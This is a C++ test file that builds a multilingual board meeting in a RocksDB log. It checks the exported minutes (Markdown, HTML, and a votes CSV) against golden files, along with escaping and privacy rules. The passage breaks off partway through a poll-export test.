// The minutes (issue 19) and the votes CSV. A small meeting is written record
// by record into a real RocksDB log — an edit in Kazakh, a thread with a
// quote and comments (one deleted after the meeting), accepted and rejected
// suggestions, a named validation poll with reservations, an anonymous poll,
// a validation session, a status change — and its minutes are exported in
// English, Russian and Kazakh, compared with tests/exports/minutes-{en,ru,kk}.{md,html}.
// Regenerate after a deliberate change with
//   KENES_REGENERATE_GOLDEN=1 build/release/replay/kenes_replay_tests --gtest_filter='MinutesTest.*:MinutesFromLogTest.*:VotesCsvTest.*'
// and read the diff (git diff tests/exports).

#include "replay/report/minutes.h"

#include <gtest/gtest.h>

#include <cstdlib>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <map>
#include <sstream>

#include "engine/utf8.h"
#include "replay/report/export.h"
#include "replay/report/poll_export.h"
#include "storage/rocks_log.h"
#include "storage/test_support.h"

namespace kenes::report {
namespace {

namespace fs = std::filesystem;
namespace v1 = kenes::v1;

void expect_golden(const std::string& name, const std::string& actual) {
  fs::path path = fs::path(KENES_SOURCE_DIR) / "tests/exports" / name;
  if (std::getenv("KENES_REGENERATE_GOLDEN")) {
    std::ofstream(path, std::ios::binary) << actual;
    return;
  }
  ASSERT_TRUE(fs::exists(path)) << path << " is missing; run with KENES_REGENERATE_GOLDEN=1";
  std::ifstream in(path, std::ios::binary);
  std::stringstream s;
  s << in.rdbuf();
  EXPECT_EQ(s.str(), actual) << "differs from " << path;
}

constexpr int64_t kNine = 1767258000000;  // 2026-01-01 09:00:00 UTC
constexpr int64_t kMinute = 60000;
const LogHead kHead{42, std::string(64, 'a'), kNine + 90 * kMinute};
constexpr char kId[] = "kz-2026";

// The op that turns `before` into `after`: the common head and tail kept, the
// middle replaced (code points, as the log counts them).
v1::TextOp op_between(const std::string& before, const std::string& after) {
  std::u32string a = engine::decode_utf8(before), b = engine::decode_utf8(after);
  std::size_t head = 0;
  while (head < a.size() && head < b.size() && a[head] == b[head]) ++head;
  std::size_t tail = 0;
  while (tail < a.size() - head && tail < b.size() - head && a[a.size() - 1 - tail] == b[b.size() - 1 - tail]) ++tail;
  v1::TextOp op;
  if (head > 0) op.add_components()->set_retain(head);
  if (a.size() - head - tail > 0) op.add_components()->set_delete_(a.size() - head - tail);
  if (b.size() - head - tail > 0) {
    op.add_components()->set_insert(engine::encode_utf8(b.substr(head, b.size() - head - tail)));
  }
  return op;
}

// Code point offsets of `quote` in `text`.
v1::TextRange range_of(const std::string& text, const std::string& quote) {
  std::size_t at = text.find(quote);
  EXPECT_NE(at, std::string::npos) << quote;
  v1::TextRange r;
  r.set_anchor(engine::count_code_points(std::string_view(text).substr(0, at)));
  r.set_head(r.anchor() + engine::count_code_points(quote));
  return r;
}

class MinutesFromLogTest : public ::testing::Test {
 protected:
  void SetUp() override {
    auto opened = storage::RocksLog::open(dir_.sub("log"));
    ASSERT_TRUE(opened.ok()) << opened.status().to_string();
    log_ = std::move(opened.value());

    {
      auto r = rec("operator");
      auto* c = r.mutable_consultation_created();
      c->set_consultation_id(kId);
      c->set_title("Kazakhstan 2026 <ROAM-X>");
      auto* cat = c->mutable_framework()->add_categories();
      cat->set_id("R");
      cat->set_title("Rights");
      auto* theme = cat->add_themes();
      theme->set_id("R.A");
      theme->set_title("Policy");
      auto* q = theme->add_questions();
      q->set_id("R.A.1");
      q->set_title("Is there a law?");
      for (auto [id, title] : {std::pair{"R.1", "Legal framework"}, {"R.2", "Access to information"}}) {
        auto* i = q->add_indicators();
        i->set_id(id);
        i->set_title(title);
        i->set_core(true);
      }
      c->set_scope(v1::SCOPE_ALL);
      append(r);
    }
    invite("chair", "Aigerim", v1::ROLE_CHAIR);
    invite("researcher", "Daniyar", v1::ROLE_RESEARCHER);
    invite("member-1", "Елена <b>", v1::ROLE_MEMBER);
    invite("member-2", "Nurlan", v1::ROLE_MEMBER);
    invite("member-3", "Dana", v1::ROLE_MEMBER);
    profile("chair", v1::STAKEHOLDER_GROUP_GOVERNMENT, "woman");
    profile("member-1", v1::STAKEHOLDER_GROUP_CIVIL_SOCIETY, "woman");
    profile("member-2", v1::STAKEHOLDER_GROUP_ACADEMIA, "man");
    profile("member-3", v1::STAKEHOLDER_GROUP_GOVERNMENT, "woman");

    // Before the meeting: the draft, and a thread on the indicator with a reply.
    edit("researcher", "indicator/R.1",
         "# Findings\n\nЗаң сөз бостандығын қорғайды.\n\nThe constitution protects expression; courts rarely apply "
         "it.\n\nOld paragraph to remove.\n");
    thread("member-2", "thread-1", "comment-1", "", "", "Are the 2019 statistics still current?");
    reply("researcher", "thread-1", "comment-2", "I will check with the statistics office.");

    meeting_start_seq_ = seq_ + 1;
    {
      auto r = rec("chair");
      auto* m = r.mutable_meeting_started();
      m->set_meeting_id("meeting-1");
      m->set_title("Board meeting <1>");
      m->add_agenda_indicator_ids("R.1");
      m->add_agenda_indicator_ids("R.2");
      append(r);
    }
    for (const char* who : {"chair", "member-1", "member-2", "member-3"}) attend(who, true);
    {
      auto r = rec("chair");
      r.mutable_spotlight_set()->set_meeting_id("meeting-1");
      r.mutable_spotlight_set()->set_indicator_id("R.1");
      append(r);
    }
    // The edits: a word inserted, a paragraph removed, one added (with an emoji).
    std::string t = texts_["indicator/R.1"];
    edit("researcher", "indicator/R.1", replace(t, "expression;", "expression online;"));
    edit("chair", "indicator/R.1", replace(texts_["indicator/R.1"], "Old paragraph to remove.\n", ""));
    edit("chair", "indicator/R.1", texts_["indicator/R.1"] + "\nСот шешімдері жарияланады 👍🏽.\n");
    // A thread on a quoted passage: replies, one deleted after the meeting
    // and one edited after it; resolved, then reopened.
    thread("member-1", "thread-2", "comment-3", "indicator/R.1", "courts rarely apply it",
           "Which courts? Name them <please>.");
    reply("researcher", "thread-2", "comment-4", "The Supreme Court and the regional courts.");
    reply("member-2", "thread-2", "comment-5", "I disagree with «rarely».");
    resolve("chair", "thread-2", true);
    resolve("member-1", "thread-2", false);
    reply("chair", "thread-1", "comment-6", "Checked: the 2024 figures replace them.\nSee the annex.");
    // Suggestions: one without words, accepted; one rejected with a reason.
    thread("member-2", "thread-3", "comment-7", "indicator/R.1", "сөз", "", "баспасөз");
    {
      auto r = rec("chair");
      auto* e = r.mutable_text_edit();
      e->set_doc_id("indicator/R.1");
      e->set_version(++versions_["indicator/R.1"]);
      std::string after = replace(texts_["indicator/R.1"], "Заң сөз", "Заң баспасөз");
      *e->mutable_op() = op_between(texts_["indicator/R.1"], after);
      e->add_co_authors("member-2");
      e->set_accepts_suggestion_of_thread("thread-3");
      texts_["indicator/R.1"] = after;
      append(r);
    }
    thread("member-3", "thread-4", "comment-8", "indicator/R.1", "Findings", "Clearer heading.", "Main findings");
    {
      auto r = rec("researcher");
      r.mutable_suggestion_rejected()->set_thread_id("thread-4");
      r.mutable_suggestion_rejected()->set_reason("Headings follow the template.");
      append(r);
    }
    // A named validation poll with two reservations, one hostile to HTML.
    create_poll("poll-1", v1::POLL_KIND_AGREEMENT, "R.1 describes the legal framework accurately", false, "R.1");
    vote("member-1", "poll-1", 1, "Cite the 2024 <amendments> & rulings");
    vote("member-2", "poll-1", 0, "");
    vote("member-3", "poll-1", 1, "Name the courts");
    close_poll("poll-1");
    // An anonymous poll: its reservation carries no name.
    create_poll("poll-2", v1::POLL_KIND_AGREEMENT, "The board accepts the schedule", true, "");
    vote("member-1", "poll-2", 0, "");
    vote("member-2", "poll-2", 1, "Too fast for the ministries");
    vote("member-3", "poll-2", 2, "");
    close_poll("poll-2");
    // A validation session: a recommendation validated, R.2 skipped.
    {
      auto r = rec("chair");
      auto* s = r.mutable_validation_session_started();
      s->set_session_id("session-1");
      s->add_items("recommendation/R/civil-society");
      s->add_items("R.2");
      s->set_statement("The assessment of {item} is accurate and complete.");
      s->mutable_rules()->set_kind(v1::POLL_KIND_AGREEMENT);
      s->mutable_rules()->add_eligible_roles(v1::ROLE_MEMBER);
      append(r);
      auto o = rec("chair");
      auto* item = o.mutable_validation_item_opened();
      item->set_session_id("session-1");
      item->set_item("recommendation/R/civil-society");
      item->set_poll_id("poll-3");
      *item->mutable_definition() = s->rules();
      item->mutable_definition()->set_question("The assessment of the recommendations is accurate and complete.");
      append(o);
    }
    vote("member-1", "poll-3", 0, "");
    vote("member-2", "poll-3", 0, "");
    close_poll("poll-3");
    {
      auto r = rec("chair");
      r.mutable_validation_item_skipped()->set_session_id("session-1");
      r.mutable_validation_item_skipped()->set_item("R.2");
      append(r);
      auto e = rec("chair");
      e.mutable_validation_session_ended()->set_session_id("session-1");
      append(e);
      auto st = rec("researcher");
      st.mutable_indicator_status_changed()->set_indicator_id("R.2");
      st.mutable_indicator_status_changed()->set_status(v1::INDICATOR_STATUS_IN_REVIEW);
      append(st);
    }
    attend("member-1", false);
    {
      auto r = rec("chair");
      r.mutable_meeting_ended()->set_meeting_id("meeting-1");
      append(r);
    }
    // After the meeting: a comment deleted, another edited, the draft edited.
    {
      auto d = rec("member-2");
      d.mutable_comment_deleted()->set_thread_id("thread-2");
      d.mutable_comment_deleted()->set_comment_id("comment-5");
      append(d);
      auto e = rec("researcher");
      e.mutable_comment_edited()->set_thread_id("thread-2");
      e.mutable_comment_edited()->set_comment_id("comment-4");
      e.mutable_comment_edited()->set_body("EDITED AFTER THE MEETING");
      append(e);
    }
    edit("researcher", "indicator/R.1", texts_["indicator/R.1"] + "\nUpdate: pending.\n");
  }

  v1::LogRecord rec(const std::string& author) {
    v1::LogRecord r;
    r.set_author(author);
    r.set_time_unix_ms(time_);
    time_ += kMinute;
    return r;
  }
  void append(const v1::LogRecord& r) {
    auto appended = log_->append(kId, {storage::Entry{r.SerializeAsString(), std::nullopt}});
    ASSERT_TRUE(appended.ok()) << appended.status().to_string();
    ++seq_;
  }
  void invite(const char* id, const char* name, v1::Role role) {
    auto r = rec("chair");
    r.mutable_participant_invited()->set_participant_id(id);
    r.mutable_participant_invited()->set_display_name(name);
    r.mutable_participant_invited()->set_role(role);
    append(r);
  }
  void profile(const char* who, v1::StakeholderGroup group, const char* gender) {
    auto r = rec(who);
    r.mutable_profile_updated()->set_stakeholder_group(group);
    r.mutable_profile_updated()->set_gender(gender);
    append(r);
  }
  static std::string replace(std::string text, const std::string& from, const std::string& to) {
    std::size_t at = text.find(from);
    EXPECT_NE(at, std::string::npos) << from;
    return text.replace(at, from.size(), to);
  }
  void edit(const std::string& author, const std::string& doc, const std::string& after) {
    auto r = rec(author);
    r.set_client_id(author + "-client");
    r.set_client_seq(++client_seq_);
    auto* e = r.mutable_text_edit();
    e->set_doc_id(doc);
    e->set_version(++versions_[doc]);
    *e->mutable_op() = op_between(texts_[doc], after);
    texts_[doc] = after;
    append(r);
  }
  void thread(const std::string& author, const std::string& id, const std::string& comment, const std::string& doc,
              const std::string& quote, const std::string& body, std::optional<std::string> suggestion = std::nullopt) {
    auto r = rec(author);
    auto* c = r.mutable_thread_created();
    c->set_thread_id(id);
    c->set_first_comment_id(comment);
    c->mutable_target()->set_indicator_id("R.1");
    if (!doc.empty()) {
      c->mutable_target()->set_doc_id(doc);
      *c->mutable_target()->mutable_range() = range_of(texts_[doc], quote);
      c->mutable_target()->set_version(versions_[doc]);
      c->set_quote(quote);
    }
    c->set_body(body);
    if (suggestion) c->mutable_suggestion()->set_text(*suggestion);
    append(r);
  }
  void reply(const std::string& author, const std::string& thread_id, const std::string& comment, const std::string& body) {
    auto r = rec(author);
    r.mutable_comment_added()->set_thread_id(thread_id);
    r.mutable_comment_added()->set_comment_id(comment);
    r.mutable_comment_added()->set_body(body);
    append(r);
  }
  void resolve(const std::string& author, const std::string& thread_id, bool resolved) {
    auto r = rec(author);
    r.mutable_thread_resolved()->set_thread_id(thread_id);
    r.mutable_thread_resolved()->set_resolved(resolved);
    append(r);
  }
  void attend(const char* who, bool present) {
    auto r = rec(who);
    r.mutable_attendance_changed()->set_meeting_id("meeting-1");
    r.mutable_attendance_changed()->set_present(present);
    append(r);
  }
  void create_poll(const std::string& id, v1::PollKind kind, const std::string& question, bool anonymous,
                   const std::string& target) {
    auto r = rec("chair");
    r.mutable_poll_created()->set_poll_id(id);
    auto* def = r.mutable_poll_created()->mutable_definition();
    def->set_kind(kind);
    def->set_question(question);
    def->set_anonymous(anonymous);
    def->add_eligible_roles(v1::ROLE_MEMBER);
    if (!target.empty()) {
      def->set_target_indicator_id(target);
      def->set_target_version(versions_["indicator/" + target]);
    }
    append(r);
    auto o = rec("chair");
    o.mutable_poll_opened()->set_poll_id(id);
    append(o);
  }
  // As the server stamps a ballot: the voter's group and gender then.
  void vote(const char* who, const std::string& poll, uint32_t choice, const std::string& reservation) {
    auto r = rec(who);
    auto* v = r.mutable_vote_cast();
    v->set_poll_id(poll);
    v->add_choices(choice);
    v->set_voter_role(v1::ROLE_MEMBER);
    const bool academia = std::string(who) == "member-2";
    v->set_voter_stakeholder_group(academia ? v1::STAKEHOLDER_GROUP_ACADEMIA
                                   : std::string(who) == "member-1" ? v1::STAKEHOLDER_GROUP_CIVIL_SOCIETY
                                                                    : v1::STAKEHOLDER_GROUP_GOVERNMENT);
    v->set_voter_gender(academia ? "man" : "woman");
    v->set_reservation(reservation);
    append(r);
  }
  void close_poll(const std::string& poll) {
    auto r = rec("chair");
    r.mutable_poll_closed()->set_poll_id(poll);
    r.mutable_poll_closed()->set_eligible(3);
    append(r);
  }

  std::string minutes(const std::string& ext, Lang lang) {
    ExportOptions options;
    options.lang = lang;
    ExportOutput out = export_consultation(*log_, kId, "minutes/meeting-1." + ext, options);
    EXPECT_EQ(out.code, ExportOutput::Code::kOk) << out.message;
    return out.body;
  }

  storage::testing::TempDir dir_;
  std::unique_ptr<storage::RocksLog> log_;
  int64_t time_ = kNine;
  uint64_t seq_ = 0;
  uint64_t client_seq_ = 0;
  uint64_t meeting_start_seq_ = 0;
  std::map<std::string, uint64_t> versions_;
  std::map<std::string, std::string> texts_;
};

TEST_F(MinutesFromLogTest, MinutesInEachLanguageMatchTheGoldenFiles) {
  for (Lang lang : {Lang::kEn, Lang::kRu, Lang::kKk}) {
    for (const char* ext : {"md", "html"}) {
      expect_golden("minutes-" + std::string(lang_code(lang)) + "." + ext, minutes(ext, lang));
    }
  }
  ExportOptions ru;
  ru.lang = Lang::kRu;
  ExportOutput out = export_consultation(*log_, kId, "minutes/meeting-1.html", ru);
  EXPECT_EQ(out.file_name, "kz-2026-seq" + std::to_string(seq_) + "-minutes-meeting-1-ru.html");
  EXPECT_EQ(out.body.rfind("<!DOCTYPE html>\n<html lang=\"ru\">", 0), 0u);
  EXPECT_EQ(export_consultation(*log_, kId, "minutes/meeting-1.md").file_name,
            "kz-2026-seq" + std::to_string(seq_) + "-minutes-meeting-1.md");
}

TEST_F(MinutesFromLogTest, EditsAreBeforeAndAfterPassagesWithTheChangedWordsMarked) {
  const std::string md = minutes("md", Lang::kEn);
  EXPECT_EQ(md.find("@@"), std::string::npos) << "no unified diff any more";
  EXPECT_NE(md.find("### R.1 Legal framework\n\nEdited by Daniyar, Aigerim, 09:19 to 09:29 (version 1 to 5).\n"),
            std::string::npos)
      << md;
  // The accepted suggestion changed a Kazakh word: whole words, marked.
  EXPECT_NE(md.find("- *Before:* Заң ~~сөз~~ бостандығын қорғайды.  \n  *After:* Заң **баспасөз** бостандығын "
                    "қорғайды.\n"),
            std::string::npos)
      << md;
  EXPECT_NE(md.find("*After:* The constitution protects **expression online;** courts rarely apply it."),
            std::string::npos)
      << md;
  EXPECT_NE(md.find("- *Removed:* Old paragraph to remove.\n"), std::string::npos) << md;
  EXPECT_NE(md.find("- *Added:* Сот шешімдері жарияланады 👍🏽.\n"), std::string::npos) << md;
  EXPECT_NE(md.find("- *Unchanged paragraphs: 1*\n"), std::string::npos) << md;
  EXPECT_EQ(md.find("Update: pending"), std::string::npos) << "an edit after the meeting is not in its minutes";
  const std::string html = minutes("html", Lang::kEn);
  EXPECT_NE(html.find("Заң <del>сөз</del> бостандығын"), std::string::npos) << html;
  EXPECT_NE(html.find("Заң <ins>баспасөз</ins> бостандығын"), std::string::npos) << html;
}

TEST_F(MinutesFromLogTest, ThreadsCarryTheirQuoteCommentsAndOutcomesButNoRemovedWords) {
  const std::string md = minutes("md", Lang::kEn);
  EXPECT_NE(md.find("### On R.1 Legal framework\n\n> courts rarely apply it\n\n- Елена \\<b\\>, 09:22: Which courts? "
                    "Name them \\<please\\>.\n- Daniyar, 09:23: The Supreme Court and the regional courts.\n"
                    "- Nurlan, 09:24: *(deleted by its author)*\n- Resolved (Aigerim, 09:25).\n"
                    "- Reopened (Елена \\<b\\>, 09:26).\n"),
            std::string::npos)
      << md;
  EXPECT_EQ(md.find("rarely»"), std::string::npos) << "a comment deleted after the meeting is not printed";
  EXPECT_EQ(md.find("EDITED AFTER"), std::string::npos) << "the words said in the meeting, not a later edit";
  // A thread started before the meeting: its opening comment, the earlier
  // reply counted, the reply in the meeting with its line break kept.
  EXPECT_NE(md.find("### On R.1 Legal framework as a whole\n\nStarted before the meeting, 1 January 2026, 09:11 UTC.\n\n"
                    "- Nurlan, 09:11: Are the 2019 statistics still current?\n"
                    "- *Replies before the meeting, not shown: 1*\n"
                    "- Aigerim, 09:27: Checked: the 2024 figures replace them.  \n  See the annex.\n"),
            std::string::npos)
      << md;
  EXPECT_NE(md.find("> сөз\n\nSuggested change (Nurlan, 09:28): replace the passage with “баспасөз”.\n\n"
                    "- Suggestion accepted (Aigerim, 09:29).\n"),
            std::string::npos)
      << md;
  EXPECT_NE(md.find("- Suggestion rejected (Daniyar, 09:31): Headings follow the template.\n"), std::string::npos) << md;
  EXPECT_NE(md.find("Threads started: 3. Resolved: 1."), std::string::npos) << md;
}

TEST_F(MinutesFromLogTest, PollsAndDecisionsAreSentencesAndAnonymousReservationsNameNobody) {
  const std::string md = minutes("md", Lang::kEn);
  EXPECT_NE(md.find("Poll: agreement, by name. It validates R.1 Legal framework at draft version 5. Opened 09:33, "
                    "closed 09:37. Voted: 3 of 3 eligible.\n\nPassed. Agree: 1; agree with reservations: 2; "
                    "disagree: 0; abstain: 0.\n"),
            std::string::npos)
      << md;
  EXPECT_NE(md.find("Reservations:\n\n- Елена \\<b\\>: Cite the 2024 \\<amendments\\> & rulings\n- Dana: Name "
                    "the courts\n"),
            std::string::npos)
      << md;
  EXPECT_NE(md.find("Reservations:\n\n- Too fast for the ministries\n"), std::string::npos) << md;
  EXPECT_NE(md.find("Poll: agreement, by name. It validates Recommendations (R, Civil society). Opened"), std::string::npos)
      << md;
  // Three voters in three groups: one line, the groups under 3 summed.
  EXPECT_NE(md.find("By stakeholder group:\n\n- groups under 3 voters (voters: 3): agree 1, agree with reservations 2\n"),
            std::string::npos)
      << md;
  EXPECT_EQ(md.find("Nurlan: Too fast"), std::string::npos) << "an anonymous poll's reservation names nobody";
  EXPECT_NE(md.find("- 09:37 — R.1 Legal framework validated by the board's vote (poll-1) at draft version 5.\n"),
            std::string::npos)
      << md;
  EXPECT_NE(md.find("Validation session session-1 started by Aigerim; items: Recommendations (R, Civil society), "
                    "R.2 Access to information."),
            std::string::npos)
      << md;
  EXPECT_NE(md.find("— Recommendations (R, Civil society) validated by the board's vote (poll-3).\n"), std::string::npos)
      << md;
  EXPECT_NE(md.find("— R.2 Access to information skipped.\n"), std::string::npos) << md;
  EXPECT_NE(md.find("— R.2 Access to information moved to “in review” by Daniyar.\n"), std::string::npos) << md;
}

TEST_F(MinutesFromLogTest, RussianAndKazakhMinutesHaveNoEnglishWordsOfKenes) {
  const std::vector<std::string> english = {"Minutes", "Attendance", "Before:", "After:", "Added:", "Removed:",
                                            "Resolved", "Reopened", "Suggest", "Poll:", "Passed", "Decisions",
                                            "Reservations", "Voted", "Edited by", "chaired", "moved to", "skipped",
                                            "Built from", "Check it", "agree", "the end", " to "};
  for (Lang lang : {Lang::kRu, Lang::kKk}) {
    for (const char* ext : {"md", "html"}) {
      const std::string body = minutes(ext, lang);
      for (const auto& word : english) {
        // What people wrote stays as written: the fixture's own English.
        std::string scrubbed = body;
        for (const char* theirs : {"Kazakhstan 2026", "Board meeting", "R.1 describes the legal framework accurately",
                                   "The board accepts the schedule", "Are the 2019 statistics still current?",
                                   "Checked: the 2024 figures replace them.", "See the annex.",
                                   "The constitution protects expression", "Old paragraph to remove.",
                                   "Which courts? Name them", "The Supreme Court and the regional courts.",
                                   "Headings follow the template.", "Clearer heading.", "Main findings",
                                   "courts rarely apply it", "Cite the 2024", "Name the courts",
                                   "Too fast for the ministries", "The assessment of the recommendations is accurate "
                                   "and complete.", "Legal framework", "Access to information", "Findings"}) {
          for (std::size_t at; (at = scrubbed.find(theirs)) != std::string::npos;) scrubbed.erase(at, std::strlen(theirs));
        }
        EXPECT_EQ(scrubbed.find(word), std::string::npos) << lang_code(lang) << "." << ext << ": " << word;
      }
    }
  }
  const std::string ru = minutes("md", Lang::kRu);
  EXPECT_NE(ru.find("Начало: 1 января 2026 г., 09:13 UTC"), std::string::npos) << ru;
  EXPECT_NE(ru.find("*Было:* Заң ~~сөз~~ бостандығын"), std::string::npos) << ru;
  EXPECT_NE(ru.find("Правка принята (Aigerim, 09:29)."), std::string::npos) << ru;
  EXPECT_NE(ru.find("Принято. За: 1; с оговорками: 2; против: 0; воздержались: 0."), std::string::npos) << ru;
  const std::string kk = minutes("md", Lang::kKk);
  EXPECT_NE(kk.find("Басталуы: 2026 жылғы 1 қаңтар, 09:13 UTC"), std::string::npos) << kk;
  EXPECT_NE(kk.find("*Бұрын:* Заң ~~сөз~~ бостандығын"), std::string::npos) << kk;
  EXPECT_NE(kk.find("Қабылданды. Келісемін: 1; ескертпемен: 2; келіспеймін: 0; қалыс: 0."), std::string::npos) << kk;
}

TEST_F(MinutesFromLogTest, NoOnesGroupOrGenderStandsBesideTheirName) {
  for (Lang lang : {Lang::kEn, Lang::kRu, Lang::kKk}) {
    for (const char* ext : {"md", "html"}) {
      const std::string body = minutes(ext, lang);
      for (const char* leak : {"woman", "man)", "Civil society)", "Academia", "Government", "Гражданское общество",
                               "Азаматтық қоғам"}) {
        // The only group named is the recommendation's (R, Civil society).
        std::string scrubbed = body;
        for (const char* ok : {"(R, Civil society)", "(R, Гражданское общество)", "(R, Азаматтық қоғам)"}) {
          for (std::size_t at; (at = scrubbed.find(ok)) != std::string::npos;) scrubbed.erase(at, std::strlen(ok));
        }
        EXPECT_EQ(scrubbed.find(leak), std::string::npos) << lang_code(lang) << "." << ext << ": " << leak;
      }
    }
  }
}

TEST_F(MinutesFromLogTest, HtmlMinutesEscapeEverythingPeopleWrote) {
  const std::string html = minutes("html", Lang::kEn);
  for (const char* raw : {"<b>", "<1>", "<please>", "<amendments>", "<ROAM-X>"}) {
    EXPECT_EQ(html.find(raw), std::string::npos) << raw;
  }
  EXPECT_NE(html.find("<blockquote>courts rarely apply it</blockquote>"), std::string::npos) << html;
  EXPECT_NE(html.find("Checked: the 2024 figures replace them.<br>See the annex."), std::string::npos) << html;
  EXPECT_NE(html.find("<li>Елена &lt;b&gt;: Cite the 2024 &lt;amendments&gt; &amp; rulings</li>"), std::string::npos);
}

// ------------------------------------------------------- fixed values

MinutesData meeting() {
  MinutesData d;
  d.consultation_id = kId;
  d.consultation_title = "Kazakhstan 2026";
  d.meeting_id = "meeting-1";
  d.meeting_title = "Board meeting";
  d.chair = "Aigerim";
  d.started_at_unix_ms = kNine;
  d.ended_at_unix_ms = kNine + 90 * kMinute;
  d.head = kHead;
  return d;
}

TEST(MinutesTest, AttendanceCountsShowOnlyCellsOfAtLeastThreePeople) {
  MinutesData d = meeting();
  auto add = [&](const std::string& name, v1::StakeholderGroup g, const std::string& gender) {
    d.attendance.push_back({name, v1::ROLE_MEMBER, g, gender, kNine, std::nullopt});
  };
  for (int i = 0; i < 4; ++i) add("gov" + std::to_string(i), v1::STAKEHOLDER_GROUP_GOVERNMENT, "woman");
  for (int i = 0; i < 3; ++i) add("acad" + std::to_string(i), v1::STAKEHOLDER_GROUP_ACADEMIA, "man");
  add("media0", v1::STAKEHOLDER_GROUP_MEDIA, "man");
  add("media1", v1::STAKEHOLDER_GROUP_MEDIA, "nonbinary");
  add("users0", v1::STAKEHOLDER_GROUP_USERS, "woman");
  add("gov0", v1::STAKEHOLDER_GROUP_GOVERNMENT, "woman");  // joined twice: counted once
  const std::string md = render_minutes_markdown(d);
  EXPECT_NE(md.find("People: 10. By stakeholder group: Government 4; Academia 3; groups under 3 people 3. By gender: "),
            std::string::npos)
      << md;
  // Genders: woman 5, man 4, nonbinary 1 — the 1 alone would name someone, so
  // the smallest shown count joins it.
  EXPECT_NE(md.find("By gender: woman 5; groups under 3 people 5."), std::string::npos) << md;
  EXPECT_EQ(md.find("nonbinary"), std::string::npos) << md;
  EXPECT_EQ(md.find("Media"), std::string::npos) << "no one's group beside their name:\n" << md;
  const std::string ru = render_minutes_markdown(d, Lang::kRu);
  EXPECT_NE(ru.find("Человек: 10. По группам заинтересованных сторон: Государство 4; Академическое сообщество 3; "
                    "группы менее 3 человек 3."),
            std::string::npos)
      << ru;
}

TEST(MinutesTest, AMeetingWithNothingInItSaysSoInEachLanguage) {
  MinutesData d = meeting();
  d.ended_at_unix_ms.reset();
  EXPECT_NE(render_minutes_markdown(d).find("ended not yet (still running)."), std::string::npos);
  for (auto [lang, note] : {std::pair{Lang::kEn, "*No draft changed during the meeting.*"},
                            {Lang::kRu, "*Во время заседания черновики не менялись.*"},
                            {Lang::kKk, "*Отырыс кезінде жобалар өзгерген жоқ.*"}}) {
    EXPECT_NE(render_minutes_markdown(d, lang).find(note), std::string::npos) << lang_code(lang);
  }
}

// The passages of a change go through the writers with their marks placed
// where Markdown takes them, whatever the text holds.
TEST(MinutesTest, ChangedWordsAreMarkedOutsideTheirSpacesAndTheirMarkdownEscaped) {
  MinutesData d = meeting();
  MinutesEdit e;
  e.subject.id = "R.1";
  e.authors = {"Daniyar"};
  e.changes = passage_diff("Keep ~~this~~ *as typed* now.\n", "Keep ~~that~~ *as typed* now.\n");
  d.edits = {e};
  const std::string md = render_minutes_markdown(d);
  EXPECT_NE(md.find("*Before:* Keep ~~\\~\\~this\\~\\~~~ \\*as typed\\* now.  \n  *After:* Keep **"), std::string::npos)
      << md;
  EXPECT_NE(md.find("*After:* Keep **\\~\\~that\\~\\~** \\*as typed\\* now."), std::string::npos) << md;
  const std::string html = render_minutes_html(d);
  EXPECT_NE(html.find("Keep <del>~~this~~</del> *as typed* now.<br>"), std::string::npos) << html;
}

TEST(VotesCsvTest, AnonymousBallotsCarryNoVoterGroupGenderOrTimeAndAreSortedByChoice) {
  VotesData d;
  d.consultation_id = "kz-2026";
  d.head = kHead;
  d.rows = {
      {"poll-1", "Is R.1 right?", "agreement", true, "Elena", "Civil society", "woman", kNine, "disagree"},
      {"poll-1", "Is R.1 right?", "agreement", true, "Aigerim", "Government", "woman", kNine + 1, "agree"},
      {"poll-2", "Rank, the \"priorities\"", "ranking", false, "Nurlan", "Academia", "", kNine + 2, "b > a"},
      {"poll-1", "Is R.1 right?", "agreement", true, "Nurlan", "Academia", "", kNine + 3, "agree with reservations"},
  };
  std::string csv = render_votes_csv(d);
  expect_golden("votes.csv", csv);
  for (const char* identity : {"Elena", "Aigerim", "Civil society", "Government", "woman"}) {
    EXPECT_EQ(csv.find(identity), std::string::npos) << identity << " leaked:\n" << csv;
  }
  // A named ballot: the voter and the choice, never their group or gender.
  EXPECT_NE(csv.find("poll-2,\"Rank, the \"\"priorities\"\"\",ranking,no,Nurlan,"), std::string::npos) << csv;
  EXPECT_EQ(csv.find("Academia"), std::string::npos) << csv;
  EXPECT_LT(csv.find(",agree\n"), csv.find(",agree with reservations\n"));
  EXPECT_LT(csv.find(",agree with reservations\n"), csv.find(",disagree\n"));
}

engine::Poll validation_poll(bool anonymous) {
  engine::PollDefinition def;
  def.kind = engine::PollKind::kAgreement;
  def.question = "R.1 is accurate";
  def.anonymous = anonymous;
  def.eligible_roles = {engine::Role::kMember};
  def.quorum = {1, 2};
  def.threshold = {2, 3};
  engine::Poll poll;
  EXPECT_TRUE(poll.create(def, kNine).ok());
  // Government 4, academia 3, media 1: media joins the merged groups, which then have
  // one voter, so the smallest shown group (academia) joins it too
  // (engine/README.md, "Polls").
  const char* groups[] = {"government", "government", "government", "media",
                          "government", "academia",   "academia",   "academia"};
  uint32_t choices[] = {engine::kAgree, engine::kAgree, engine::kAgreeWithReservations, engine::kDisagree,
                        engine::kAgree, engine::kAgree, engine::kAgree,                 engine::kAbstain};
  for (int i = 0; i < 8; ++i) {
    engine::CastBallot b;
    b.voter_id = "voter-" + std::to_string(i);
    b.stakeholder_group = groups[i];
    b.gender = i % 2 ? "man" : "woman";
    b.choices = {choices[i]};
    EXPECT_TRUE(poll.cast(b, kNine + (8 - i) * kMinute).ok());
  }
  return poll;
}

TEST(PollExportTest, MinutesShowTotalsOutcomeAndBreakdownsWithSmallGroupsMerged) {
  engine::Poll poll = validation_poll(true);
  ASSERT_TRUE(poll.close(kNine + 10 * kMinute).ok());
  MinutesPoll m = minutes_poll("poll-1", poll, 10, kNine + 11 * kMinute);
  EXPECT_EQ(m.kind, MinutesPoll::Kind::kAgreement);
  EXPECT_EQ(m.state, MinutesPoll::State::kClosed);
  EXPECT_EQ(m.ballots, 8u);
  EXPECT_EQ(m.eligible, 10u);
  EXPECT_TRUE(m.results_shown);
  EXPECT_TRUE(m.passed);
  ASSERT_EQ(m.options.size(), 4u);
  EXPECT_EQ(m.options[0].votes, 5u);
  ASSERT_EQ(m.by_group.size(), 2u);
  EXPECT_EQ(m.by_group[0].kind, MinutesPollGroup::Kind::kStakeholderGroup);
  EXPECT_EQ(m.by_group[0].group, v1::STAKEHOLDER_GROUP_GOVERNMENT);
  EXPECT_EQ(m.by_group[1].kind, MinutesPollGroup::Kind::kMerged);
  MinutesData d = meeting();
  d.polls = {m};
